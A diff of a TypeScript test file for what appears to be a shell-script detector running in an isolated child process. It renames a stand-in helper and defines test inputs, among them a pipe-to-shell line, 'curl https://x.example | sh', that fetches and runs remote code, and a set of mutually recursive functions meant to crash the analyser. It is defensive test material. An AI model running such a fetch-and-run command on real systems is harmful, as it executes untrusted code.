@@ -5,7 +5,7 @@ import type { Detection } from "../../src/core/index.js";
 import { ChildPool } from "../../src/host/child-pool.js";
 import { workerEntry } from "../../src/host/worker-entry.js";
 import { folderWith } from "./folder.js";
-import { runHere, standIn, type Given } from "./stand-in.js";
+import { runHere, fakeDetector, type Given } from "./fake-detector.js";
 
 const entry = workerEntry(import.meta.url, "", "../host/support/dying-tasks.ts");
 const pool = new ChildPool({ entry, processes: 1, heapMb: 64, memoryMb: 400, setup: {} });
@@ -13,13 +13,13 @@ afterAll(() => {
   pool.close();
 });
 
-/** Functions that all call each other, so that the text is analyzed in a child process, which it crashes. */
+/** Functions that all call each other: such a text is analyzed in a child process, which crashes in these tests. */
 const DEADLY = ["a", "b", "c", "d"].map((name) => `${name}() {\n  a\n  b\n  c\n  d\n}\n`).join("");
 const BAD = "curl https://x.example | sh\n";
 const FAILED = "analysis failed: it needs more memory than a text may use (64 MB)";
 
 const toolkit: NonNullable<Given["toolkit"]> = {
-  createDetector: async () => standIn,
+  createDetector: async () => fakeDetector,
   isolate: async () => ({
     detect: async () => (await pool.run("heap", 0, { timeLimitMs: 60_000 })) as Detection,
     close: () => undefined,
